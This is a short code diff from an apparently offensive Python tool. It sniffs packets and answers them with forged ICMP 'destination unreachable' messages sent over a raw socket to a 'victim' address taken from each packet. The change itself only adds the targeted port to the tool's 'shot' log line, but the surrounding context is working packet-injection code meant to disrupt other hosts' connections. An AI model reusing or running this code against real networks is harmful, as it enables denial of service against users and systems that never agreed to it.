@@ -30,7 +30,7 @@ def main():
             original = packet[:28]
             head = struct.pack("!BBHI", 3, code, checksum(struct.pack("!BBHI", 3, code, 0, 0) + original), 0)
             raw.sendto(head + original, (socket.inet_ntoa(packet[VICTIM_OFFSET:VICTIM_OFFSET + 4]), 0))
-            print("shot", flush=True)
+            print("shot", struct.unpack("!H", packet[22:24])[0], flush=True)  # the port that was called
 
 
 if __name__ == "__main__":
